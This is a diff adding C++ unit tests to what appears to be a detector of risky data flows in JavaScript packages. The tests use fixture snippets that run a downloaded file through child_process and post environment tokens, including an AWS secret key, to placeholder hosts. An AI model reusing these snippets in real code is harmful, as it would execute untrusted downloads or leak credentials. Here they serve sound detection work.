@@ -3,6 +3,7 @@
 
 #include <string>
 
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include "judges/vet/flow/flow_fixture.h"
@@ -192,6 +193,52 @@ TEST(Flow, DownloadsThatAreRun) {
 }
 
 // One secret, one sink; the way between them differs.
+TEST(Flow, WhatOnlyHandlesADownloadDoesNotRunIt) {
+    const std::string written =
+        "const fs = require('fs'); const c = require('child_process');\n"
+        "fetch(u).then(r => r.text()).then(t => { fs.writeFileSync('./x.bin', t); });\n";
+    const auto weights = [&](const std::string& last) {
+        std::string said;
+        for (const Sighting& one : flows_of({{"index.js", written + last}}).reading.sightings)
+            if (one.signal == "S08") said += fmt::format("{}: {};", one.weight.value_or(4), one.what);
+        return said;
+    };
+    EXPECT_EQ(weights("c.spawnSync('gpg', ['--encrypt', './x.bin']);\n"),
+              "1: a downloaded file is given to a command by child_process.spawnSync;");
+    EXPECT_EQ(weights("c.spawnSync(process.env.GPG || 'gpg', ['./x.bin']);\n"),
+              "1: a downloaded file is given to a command by child_process.spawnSync;");
+    EXPECT_EQ(weights("c.execSync(`openssl dgst ${'./x.bin'}`);\n"),
+              "1: a downloaded file is given to a command by child_process.execSync;");
+    // Another command behind it, another program, or one that nobody knows.
+    for (const std::string last :
+         {"c.execSync(`openssl dgst ${'./x.bin'} && ./x.bin`);\n", "c.execSync(`tar xf ${'./x.bin'}`);\n",
+          "c.spawnSync('node', ['./x.bin']);\n", "c.spawnSync(tool || 'gpg', ['./x.bin']);\n",
+          "c.execSync('./x.bin');\n", "c.execSync(prefix + 'gpg ' + './x.bin');\n",
+          "c.execSync(`npm exec ${'./x.bin'}`);\n"})
+        EXPECT_TRUE(weights(last).starts_with("4: a downloaded file is run by")) << last << weights(last);
+}
+
+TEST(Flow, KeysThatStandInForOneAnotherAreOneCredential) {
+    const auto weight = [](const std::string& text) {
+        const Flows flows = flows_of({{"index.js", text}});
+        const Sighting* found = flows.first("S03");
+        return found == nullptr ? -1.0 : found->weight.value_or(4);
+    };
+    EXPECT_EQ(weight("const t = process.env.GITHUB_TOKEN || process.env.PERSONAL_TOKEN;\n"
+                     "fetch('https://api.example', { headers: { authorization: t } });\n"),
+              1.0);
+    EXPECT_EQ(weight("const t = process.env.A_TOKEN ?? process.env.B_TOKEN ?? process.env.C_TOKEN;\n"
+                     "fetch('https://api.example', { headers: { authorization: t } });\n"),
+              1.0);
+    EXPECT_EQ(weight("const t = [process.env.GITHUB_TOKEN, process.env.PERSONAL_TOKEN];\n"
+                     "fetch('https://api.example', { method: 'POST', body: t.join() });\n"),
+              4.0);
+    EXPECT_EQ(
+        weight("const t = process.env.GITHUB_TOKEN || process.env.PERSONAL_TOKEN;\n"
+               "fetch('https://api.example', { method: 'POST', body: t + process.env.AWS_SECRET_ACCESS_KEY });\n"),
+        4.0);
+}
+
 TEST(Flow, Ways) {
     const std::string source = "JSON.stringify(process.env)";
     const std::string sink = "fetch('https://collect.invalid', { method: 'POST', body: VALUE });\n";
